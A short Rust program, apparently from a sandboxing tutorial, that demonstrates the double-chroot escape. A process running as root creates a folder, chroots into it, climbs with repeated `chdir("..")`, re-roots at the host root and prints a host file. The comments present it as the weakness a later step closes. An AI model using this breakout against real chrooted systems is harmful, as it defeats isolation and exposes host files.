//! The misbehaviour that step 03 stops: `chroot_breakout FILE` walks out of a chroot and reads a file of the host.
//!
//! chroot(2) says so itself: it "does not change the current working directory". So a second chroot leaves this process
//! standing outside its own root, and from there `..` leads up without end. Only root (inside) can do it.

use nix::unistd::{chdir, chroot};

fn main() {
    let file = std::env::args().nth(1).expect("a file of the host");
    let folder = format!("/tmp/breakout-{}", std::process::id());
    let escape = || -> std::io::Result<String> {
        std::fs::create_dir_all(&folder)?;
        chroot(folder.as_str())?; // and we stand outside it
        for _ in 0..64 {
            chdir("..")?;
        }
        chroot(".")?;
        std::fs::read_to_string(&file)
    };
    let found = escape();
    let _ = std::fs::remove_dir(&folder);
    match found {
        Ok(text) => print!("broke out: {text}"),
        Err(error) => println!("still inside: {error}"),
    }
}
